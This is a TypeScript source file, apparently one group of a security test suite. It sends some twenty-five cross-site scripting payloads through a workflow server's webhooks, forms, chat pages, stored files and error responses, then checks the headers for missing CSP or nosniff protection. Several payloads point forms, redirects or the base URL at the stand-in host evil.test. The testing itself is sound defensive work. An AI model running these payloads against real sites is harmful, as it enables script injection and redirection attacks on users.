import type { JsonObject } from '../../../core/data/item.ts';
import { chain, hook, node, respond, set } from '../../served/documents.ts';
import type { Server } from '../../served/server.ts';
import { type AttackContext, BlindOracle, type Finding, type Group, type GroupResult } from '../group.ts';

/** Each would run in a page of ours that took it for markup. */
const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.test><input name=a></form>',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<link rel=stylesheet href=//evil.test>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1) style=position:fixed;inset:0>',
  '{{constructor.constructor("alert(1)")()}}',
  '<!--<img src="--><img src=x onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<object data="data:text/html,<script>alert(1)</script>">',
];

const RENDERS =
  /^(text\/html|application\/xhtml\+xml|image\/svg\+xml|text\/xml|application\/xml|application\/[\w.-]+\+xml|multipart\/|text\/x-|application\/pdf)/i;

/** Why a browser could run what the caller wrote; undefined: it could not. */
function hole(response: Response, text: string, payload: string): string | undefined {
  const type = response.headers.get('content-type') ?? '';
  const policy = response.headers.get('content-security-policy') ?? '';
  const disposition = response.headers.get('content-disposition') ?? '';
  if (response.headers.get('x-content-type-options') !== 'nosniff' && text !== '') {
    return `no nosniff on ${type || 'nothing'}`;
  }
  if (/[\r\n]/.test(disposition)) return 'a line end in Content-Disposition';
  if (type === '' && text !== '') return 'no content type';
  if (!RENDERS.test(type) || /^attachment/i.test(disposition)) return undefined;
  if (/(^|;)\s*sandbox\b/.test(policy)) {
    const [, words = ''] = /(?:^|;)\s*sandbox([^;]*)/.exec(policy) ?? [];
    return /allow-same-origin|allow-scripts|allow-top-navigation/.test(words)
      ? `the sandbox is open: ${policy}`
      : undefined;
  }
  // A page of ours: nothing written by others is markup there, and were it, nothing would run.
  if (/unsafe-inline|unsafe-eval|script-src [^;]*(\*|data:|https:)/.test(policy)) {
    return `the policy lets scripts in: ${policy}`;
  }
  if (!/default-src 'none'/.test(policy)) return `a page without a policy: ${policy}`;
  const isMarkup = payload.includes('<') && text.includes(payload);
  return isMarkup ? 'the payload stands in the page as it was written' : undefined;
}

type Ask = (payload: string) => Promise<Response>;

/** Where what somebody stored or sent comes back to a browser. */
async function channels(server: Server): Promise<[string, Ask][]> {
  const { url, tenant, apiKey } = server.ready;
  const auth = { authorization: `Bearer ${apiKey}` };
  const call = (path: string, init: RequestInit = {}): Promise<Response> =>
    fetch(`${url}${path}`, { ...init, headers: { ...auth, ...init.headers }, redirect: 'manual' });
  const post = (path: string, body: unknown): Promise<Response> =>
    call(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const onHook = (path: string, payload: string): Promise<Response> =>
    fetch(server.hookAddress(path), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ v: payload }),
    });

  const answering = async (path: string, type: string): Promise<[string, Ask]> => {
    await server.publish(
      chain(path, [
        hook(path, 'responseNode'),
        respond({
          respondWith: 'text',
          responseBody: '={{ $json.body.v }}',
          options: { responseHeaders: { entries: type === '' ? [] : [{ name: 'content-type', value: type }] } },
        }),
      ]),
    );
    return [`webhook as ${type || 'text'}`, (payload) => onHook(path, payload)];
  };
  await server.publish(chain('a7-last', [hook('a7-last'), set('echo', { [`v`]: '={{ $json.body.v }}' })]));
  await server.publish(
    chain('a7-headers', [
      hook('a7-headers', 'responseNode'),
      respond({
        respondWith: 'text',
        responseBody: '={{ $json.body.v }}',
        options: {
          responseHeaders: {
            entries: [
              { name: 'content-type', value: 'text/html' },
              { name: 'content-security-policy', value: "default-src * 'unsafe-inline'" },
              { name: 'x-content-type-options', value: 'none' },
              { name: 'x-xss-protection', value: '0' },
            ],
          },
        },
      }),
    ]),
  );
  let pages = 0;
  const form: Ask = async (payload) => {
    const path = `a7-form-${++pages}`;
    await server.publish(
      chain(payload, [
        node('ask', 'form-trigger', 2.2, {
          formTitle: payload,
          formDescription: payload,
          formFields: {
            values: [
              { fieldLabel: payload, placeholder: payload, fieldType: 'text' },
              { fieldLabel: 'd', fieldType: 'dropdown', fieldOptions: { values: [{ option: payload }] } },
            ],
          },
          options: { path, buttonLabel: payload },
        }),
      ]),
    );
    return fetch(`${url}/forms/${tenant}/${path}`);
  };
  const chat: Ask = async (payload) => {
    const trigger = node('Chat', 'chat-trigger', 1.3, {
      public: true,
      initialMessages: payload,
      options: { title: payload, subtitle: payload, inputPlaceholder: payload },
    });
    trigger.webhookId = `a7-chat-${++pages}`;
    await server.publish(chain(payload, [trigger, set('say', { output: 'x' })]));
    return fetch(`${url}/chats/${tenant}/${trigger.webhookId}`);
  };
  const created: Ask = (payload) => post('/v1/workflows', chain(payload, [node(payload, 'manual', 1)]));
  const file = async (payload: string, kind: string): Promise<Response> => {
    const path = `a7/${payload.replaceAll(/[/\\]/g, '_').slice(0, 80)}.${kind}`;
    const stored = await call(`/v1/files/content?path=${encodeURIComponent(path)}`, {
      method: 'PUT',
      headers: { 'content-type': 'application/octet-stream' },
      body: payload,
    });
    return stored.ok ? call(`/v1/files/content?path=${encodeURIComponent(path)}`) : stored;
  };
  return [
    await answering('a7-html', 'text/html'),
    await answering('a7-svg', 'image/svg+xml'),
    await answering('a7-xhtml', 'application/xhtml+xml'),
    await answering('a7-case', 'TEXT/HTML; charset=utf-8'),
    await answering('a7-odd', 'text/html;x=y'),
    await answering('a7-plain', ''),
    ['webhook, policy replaced', (payload) => onHook('a7-headers', payload)],
    ['webhook, last node', (payload) => onHook('a7-last', payload)],
    ['form', form],
    ['chat', chat],
    ['workflow by API', created],
    ['file .html', (payload) => file(payload, 'html')],
    ['file .svg', (payload) => file(payload, 'svg')],
    ['unknown address', (payload) => call(`/v1/${encodeURIComponent(payload)}`)],
    ['unknown hook', (payload) => fetch(`${url}/hooks/${tenant}/${encodeURIComponent(payload)}`, { method: 'POST' })],
    ['unknown form', (payload) => fetch(`${url}/forms/${tenant}/${encodeURIComponent(payload)}`)],
    ['unknown resume address', (payload) => fetch(`${url}/waiting/${tenant}/${encodeURIComponent(payload)}/x`)],
    [
      'query that is refused',
      (payload) => call(`/v1/runs?${encodeURIComponent(payload)}=${encodeURIComponent(payload)}`),
    ],
    ['body that is refused', (payload) => post('/v1/keys', { [payload]: payload, name: [payload] })],
    [
      'sign-in error',
      (payload) =>
        fetch(`${url}/oauth/callback?state=${encodeURIComponent(payload)}&error=${encodeURIComponent(payload)}`),
    ],
    [
      'credential by API',
      (payload) =>
        post('/v1/credentials', {
          type: 'httpBearerAuth',
          name: payload,
          values: { token: 'xxxxxxxx' },
        } satisfies JsonObject),
    ],
  ];
}

async function attack(context: AttackContext): Promise<GroupResult> {
  const server = await context.server();
  // A page with no policy must be seen as a hole.
  const naked = new Response('', { headers: { 'content-type': 'text/html', 'x-content-type-options': 'nosniff' } });
  if (hole(naked, PAYLOADS[0] ?? '', PAYLOADS[0] ?? '') === undefined) {
    throw new BlindOracle('a page without a policy is not noticed');
  }
  const succeeded: Finding[] = [];
  const hung: Finding[] = [];
  let cases = 0;
  for (const [name, ask] of await channels(server)) {
    for (const [index, payload] of PAYLOADS.entries()) {
      const id = `A7/${name.replaceAll(/[^a-z]+/gi, '-')}/${index}`;
      cases++;
      try {
        const response = await ask(payload);
        const text = await response.text();
        const why =
          response.status >= 500 ? `answered ${response.status}: ${text.slice(0, 200)}` : hole(response, text, payload);
        if (why !== undefined) succeeded.push({ id, about: `${payload} through ${name}`, why });
      } catch (error) {
        hung.push({ id, about: payload, why: String(error) });
      }
    }
    context.say(`  ${name}: ${cases} cases, ${succeeded.length} succeeded`);
  }
  return { cases, succeeded, hung };
}

export const group: Group = {
  name: 'A7',
  title: 'markup of others in a browser, as the server answers it',
  run: attack,
};
